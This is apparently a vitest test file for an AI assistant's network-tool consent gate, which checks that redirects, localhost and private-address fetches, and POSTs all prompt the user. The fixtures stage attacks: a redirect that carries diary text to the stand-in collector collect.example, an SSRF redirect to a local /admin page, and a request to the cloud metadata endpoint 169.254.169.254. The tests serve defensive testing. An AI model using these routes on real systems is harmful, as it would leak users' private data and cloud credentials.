import { afterEach, describe, expect, test } from 'vitest';
import { ConversationLog } from '../../../src-main/assistant/conversation-log.ts';
import { ToolCalls } from '../../../src-main/assistant/tool-calls.ts';
import { flagConsent } from '../../../src-main/headless/flag-consent.ts';
import { createHttpClient, type HttpClientOptions } from '../../../src-main/network/http-client.ts';
import type { ConsentPort } from '../../../src-main/policy/consent.ts';
import { ConversationToolset } from '../../../src-main/tools/registry/conversation-toolset.ts';
import type { EventOf } from '../../../src-preload/contract/events.ts';
import { allowAll } from '../../fixtures/allow-all.ts';
import { MemoryEvents } from '../../fixtures/memory-events.ts';
import { forgottenImages } from '../../fixtures/memory-images.ts';
import { gateWith, no, User, yesOnce } from '../../fixtures/memory-ports.ts';
import { noCheckpoints } from '../../fixtures/no-checkpoints.ts';
import { noProvenance } from '../../fixtures/no-provenance.ts';
import { noSecrets } from '../../fixtures/no-secrets.ts';
import { ToolHarness } from '../../fixtures/tool-harness.ts';
import { html, page, redirect } from '../../fixtures/web/pages.ts';
import { startWebSite } from '../../fixtures/web/site.ts';

let harness: ToolHarness | undefined;
afterEach(async () => {
  await harness?.dispose();
  harness = undefined;
});

/** The real tools, gate and log; the conversation is kept in memory. */
function conversation(consent: ConsentPort, lookup: HttpClientOptions['lookup'], said: string) {
  harness = new ToolHarness({ consent: allowAll });
  const store = new MemoryEvents();
  const { registry, environment, workspace } = harness;
  const { gate } = gateWith(consent, { realWorkspace: workspace });
  const log = new ConversationLog(store, 'conversation-1', 'turn-1', () => undefined);
  log.append({ type: 'user_message', content: [{ type: 'text', text: said }] });
  const http = createHttpClient({ lookup });
  const services = {
    tools: new ConversationToolset({ registry }),
    gate,
    environment: { ...environment, http },
    beforeImages: forgottenImages(),
    checkpoints: noCheckpoints,
    provenance: noProvenance,
    maxResultChars: 40_000,
    askedModels: undefined,
    knownSecrets: noSecrets(),
  };
  return {
    harness,
    run: async (name: string, input: object): Promise<EventOf<'tool_result'> | undefined> => {
      const id = `call-${store.events.length}`;
      await new ToolCalls(services, log, 'model', new AbortController().signal).run([{ id, name, input }]);
      return store.ofType('tool_result').find((result) => result.id === id);
    },
    outcomes: () => store.ofType('tool_result').map(({ outcome }) => outcome),
    close: () => http.close(),
  };
}

const at = (address: string) => async () => [{ address, family: 4 }];
const HERE = at('127.0.0.1');

describe('a redirect asks like a separate call', () => {
  test('with private text in the context, a redirect to an unnamed host is neither followed nor looked up without asking', async () => {
    const site = await startWebSite({
      '/page': html('<p>read me</p>'),
      '/on': redirect('https://collect.example/?q=dear+diary'),
    });
    const user = new User((request) => {
      const urls = request.kind === 'tool' ? request.access.map((access) => ('url' in access ? access.url : '')) : [];
      return urls.some((url) => url.includes('collect.example')) ? no : yesOnce;
    });
    const looked: string[] = [];
    const lookup = async (hostname: string) => {
      looked.push(hostname);
      return [{ address: '93.184.215.14', family: 4 }];
    };
    const { run, outcomes, harness: it, close } = conversation(user, lookup, `read ${site.url} and diary.md`);
    it.put('diary.md', 'dear diary');
    await run('read_file', { path: 'diary.md' });
    await run('web_fetch', { url: `${site.url}/page` });
    const redirected = await run('web_fetch', { url: `${site.url}/on` });
    expect(redirected).toMatchObject({ outcome: 'declined', text: expect.stringContaining('web_fetch') });
    expect(outcomes()).toEqual(['completed', 'completed', 'declined']);
    expect(looked).toEqual([]);
    const asked = user.asked.at(-1);
    expect(asked).toMatchObject({
      tool: 'web_fetch',
      input: { url: `${site.url}/on` },
      access: [{ class: 'network', host: 'collect.example', url: 'https://collect.example/?q=dear+diary' }],
      marks: [
        { kind: 'private', source: 'file diary.md' },
        { kind: 'untrusted', source: site.url },
        { kind: 'private', source: site.url },
      ],
    });
    await close();
  });

  test('from a public page to this machine is asked about; a no ends it', async () => {
    const inner = await startWebSite({ '/admin': page('keys', 'text/plain') });
    const site = await startWebSite({ '/': redirect(`http://127.0.0.1:${inner.port}/admin`) });
    const user = new User((_request, asked) => (asked === 1 ? yesOnce : no));
    const { run, close } = conversation(user, HERE, 'go');
    const result = await run('web_fetch', { url: `http://pages.example:${site.port}/` });
    expect(result).toMatchObject({ outcome: 'declined' });
    expect(user.asked.map((request) => (request.kind === 'tool' ? request.classes : []))).toEqual([
      ['network-private'],
      ['network-private'],
    ]);
    expect(inner.connections()).toBe(0);
    await close();
  });
});

test('a name that turns out to be this machine is asked about again, whatever was allowed as it was written', async () => {
  const site = await startWebSite({ '/': page('secret', 'text/plain') });
  const user = new User((_request, asked) => (asked === 1 ? yesOnce : no));
  const { run, harness: it, close } = conversation(user, HERE, 'go');
  it.put('diary.md', 'dear diary');
  await run('read_file', { path: 'diary.md' });
  expect(await run('http_get', { url: `http://inner.example:${site.port}/` })).toMatchObject({ outcome: 'declined' });
  expect(user.asked).toMatchObject([
    { reason: { code: 'address_composed' }, classes: ['network'] },
    { reason: { code: 'private_network' }, classes: ['network-private'] },
  ]);
  expect(site.connections()).toBe(0);
  await close();
});

test('a name that leads to where a cloud machine hands out credentials is asked about each time', async () => {
  const user = new User(() => no);
  const lookup = async () => [{ address: '169.254.169.254', family: 4 }];
  const { run, close } = conversation(user, lookup, 'go');
  await run('web_fetch', { url: 'http://inner.example/latest/meta-data/' });
  expect(user.asked).toMatchObject([
    { classes: ['network-private'], offers: [], access: [{ host: 'inner.example', isMetadata: true }] },
  ]);
  await close();
});

test('sending shows who gets it and all of it, and nothing goes out before the yes', async () => {
  const site = await startWebSite({ '/': page('ok', 'text/plain') });
  const user = new User((request, asked) => {
    expect(site.connections()).toBe(0);
    expect(request).toMatchObject({
      classes: ['send'],
      offers: [],
      // The input is shown to the letter as it will be sent.
      input: { body: JSON.stringify({ to: 'a@example.org', text: 'x'.repeat(5_000) }) },
      access: [{ kind: 'request', class: 'network-private', method: 'POST', url: `${site.url}/`, host: '127.0.0.1' }],
    });
    return asked === 1 ? no : yesOnce;
  });
  const { run, close } = conversation(user, HERE, 'go');
  const input = { url: site.url, body: { to: 'a@example.org', text: 'x'.repeat(5_000) } };
  expect(await run('http_post', input)).toMatchObject({ outcome: 'declined' });
  expect(await run('http_post', input)).toMatchObject({ outcome: 'completed', text: '200 OK (2 bytes)\n\nok' });
  expect(site.requests).toHaveLength(1);
  await close();
});

test('reading a public page does not ask, reading one on this machine does', async () => {
  const site = await startWebSite({ '/': page('mine', 'text/plain') });
  const { run, close } = conversation(flagConsent('reads'), at('93.184.215.14'), 'go');
  expect(await run('web_fetch', { url: site.url })).toMatchObject({ outcome: 'declined' });
  expect(site.connections()).toBe(0);
  await close();
});
